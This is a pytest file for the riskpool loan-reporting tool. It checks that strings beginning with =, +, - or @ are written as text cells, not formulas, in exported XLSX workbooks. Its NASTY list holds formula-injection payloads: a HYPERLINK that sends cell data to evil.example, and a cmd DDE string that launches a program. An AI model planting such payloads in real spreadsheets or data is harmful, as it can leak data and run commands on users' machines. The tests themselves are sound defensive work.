"""Spreadsheet formula injection: text that starts with = + - @ is written as text in every
workbook riskpool writes (the report's XLSX and ``--out x.xlsx`` of the table commands).

Independent check: openpyxl reads each cell back; a live formula has ``data_type == "f"``, a
text cell ``"s"`` with the exact string."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from adversarial_helpers import row_counts

from dashboards.reports import Section, write_xlsx
from riskpool.commands.output import write_tables

pytestmark = pytest.mark.adversarial("paths")

NASTY = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    "http://evil.example/",
    "1e5",
]


def _cells(path: Path) -> list[tuple[object, str]]:
    book = openpyxl.load_workbook(path)
    return [(c.value, c.data_type) for ws in book.worksheets for row in ws.iter_rows()
            for c in row if c.value is not None]


@pytest.mark.parametrize("text", NASTY)
def test_report_workbook_keeps_text(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({"region": [text, "浙江"], "balance": [1.5, 2.0]})
    out = tmp_path / "r.xlsx"
    write_xlsx([Section("book", "Book", {"by_region": frame})], out, dt.date(2026, 6, 30),
               "2026-07-01T00:00:00")
    cells = _cells(out)
    assert (text, "s") in cells
    assert not [c for c in cells if c[1] == "f"]


@pytest.mark.parametrize("text", NASTY)
def test_table_export_keeps_text(tmp_path: Path, text: str) -> None:
    frame = pd.DataFrame({"region": [text], "balance": [1.5]})
    out = tmp_path / "summary.xlsx"
    assert write_tables({"by_region": frame}, out) == [out]
    cells = _cells(out)
    assert (text, "s") in cells
    assert not [c for c in cells if c[1] == "f"]
    assert (1.5, "n") in cells


PERF_HEADER = ("loan_id,as_of,months_on_book,balance,paid_principal,paid_interest,"
               "prepaid_principal,dpd,status,charge_off,recovery")
TAPE_HEADER = ("loan_id,borrower_id,origination_date,principal,apr,term_months,repayment_type,"
               "credit_score,region,channel,product")


@pytest.mark.parametrize("text", NASTY)
def test_cli_summary_workbook_from_the_book_keeps_text(cli, seeded_db: Path, tmp_path: Path,
                                                       text: str) -> None:
    """End to end: a region holding the text is loaded into the book, ``riskpool book summary
    --out x.xlsx`` writes it as a text cell (never a formula), and the export changes no
    table's row count."""
    quoted = '"' + text.replace('"', '""') + '"'
    tape = tmp_path / "loans.csv"
    # the golden tape's JB-0002 again as X-1, with the region under test, and its month 2
    tape.write_text(f"{TAPE_HEADER}\nX-1,ux1,2024-01-31,1500.50,0.073,3,level_annuity,801,"
                    f"{quoted},app,jiebei\n", encoding="utf-8")
    perf = tmp_path / "perf.csv"
    perf.write_text(PERF_HEADER + "\nX-1,2024-03-31,2,1000.50,500.00,9.13,0,0,current,0,0\n",
                    encoding="utf-8")
    r = cli("ingest", tape, "--db", seeded_db)
    assert r.code == 0, r.err
    r = cli("ingest", perf, "--kind", "performance", "--db", seeded_db)
    assert r.code == 0, r.err
    before = row_counts(seeded_db)
    out = tmp_path / "summary.xlsx"
    r = cli("book", "summary", "--db", seeded_db, "--out", out)
    assert r.code == 0, r.err
    cells = _cells(out)
    assert (text, "s") in cells
    assert not [c for c in cells if c[1] == "f"]
    assert row_counts(seeded_db) == before
